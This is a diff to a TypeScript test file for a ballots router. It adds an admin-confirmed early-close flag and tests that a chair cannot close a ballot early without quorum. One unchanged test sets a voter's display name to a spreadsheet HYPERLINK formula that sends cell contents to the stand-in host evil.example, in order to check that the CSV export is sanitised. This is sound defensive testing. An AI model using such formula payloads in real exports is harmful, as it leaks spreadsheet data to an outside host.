@@ -195,7 +195,8 @@ describe(`ballots router: opening, voting, closing (${process.env.DATABASE_URL ?
     const notice = services.deps.publisher.published.filter((e) => e.stream === `ballot:${opened.id}`).at(-1)!;
     expect(describeEvent(notice)).toBe(`ballot:${opened.id}#2 vote:counted`);
     expect(notice.payload).toHaveProperty("tallies");
-    await as(admin).ballots.close({ ballotId: opened.id });
+    // The lead region has not voted: only an admin's explicit confirmation closes before the time.
+    await as(admin).ballots.close({ ballotId: opened.id, confirmEarlyClose: true });
     const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
     expect(csv.match(/^vote,/gm)).toHaveLength(2);
     expect(csv).toContain(`,${voter.account.id},${voter.account.displayName},approve,`);
@@ -209,7 +210,7 @@ describe(`ballots router: opening, voting, closing (${process.env.DATABASE_URL ?
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
     await services.deps.db.update(accounts).set({ displayName: formula }).where(eq(accounts.id, voter.account.id));
     await as(voter).ballots.castVote({ ballotId: opened.id, choices: setup.planIds.map((planId) => ({ planId, choice: "approve" as const })) });
-    await as(admin).ballots.close({ ballotId: opened.id });
+    await as(admin).ballots.close({ ballotId: opened.id, confirmEarlyClose: true });
 
     const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
     const votes = csv.split("\r\n").filter((line) => line.startsWith("vote,"));
@@ -255,7 +256,9 @@ describe(`ballots router: opening, voting, closing (${process.env.DATABASE_URL ?
     expect(second).toMatchObject({ round: 2 });
     expect(await services.deps.db.select({ id: benefitPlans.id }).from(benefitPlans).where(eq(benefitPlans.ballotId, second.id))).toHaveLength(1);
     expect(await callFailure(as(chair).ballots.newRound({ ballotId: opened.id, ...settings, plans }))).toMatchObject({ reason: "NEW_ROUND_NOT_ALLOWED" });
-    await as(chair).ballots.close({ ballotId: second.id });
+    // Nobody voted in the second round: the chair cannot close it early, an admin confirming can.
+    expect(await callFailure(as(chair).ballots.close({ ballotId: second.id }))).toMatchObject({ code: "PRECONDITION_FAILED", reason: "EARLY_CLOSE_QUORUM_NOT_MET" });
+    await as(admin).ballots.close({ ballotId: second.id, confirmEarlyClose: true });
     await as(chair).ballots.concludeWithoutAgreement({ ballotId: second.id });
     expect(await projectStatus(setup.projectId)).toBe("rejected");
     expect((await callerFor(services.deps, null).ballots.forProject({ projectId: setup.projectId })).map((b) => [b.round, b.outcome])).toEqual([
